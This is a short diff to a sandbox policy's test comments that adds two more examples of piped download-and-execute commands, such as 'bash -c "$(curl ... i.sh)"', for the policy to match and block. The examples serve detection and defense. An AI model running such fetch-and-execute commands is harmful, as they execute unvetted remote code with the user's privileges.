@@ -11,6 +11,8 @@ package sandboxd.policies.developer.fetched
 #     - curl https://x.example/i.sh | sh
 #     - wget -qO- https://x.example/i.sh | sudo bash
 #     - curl https://x.example/i.py | tee log | python3 -
+#     - sh <(curl https://x.example/i.sh)
+#     - bash -c "$(curl -fsSL https://x.example/i.sh)"
 #   not_match:
 #     - curl https://x.example/a.json | jq .
 #     - curl -o i.sh https://x.example/i.sh
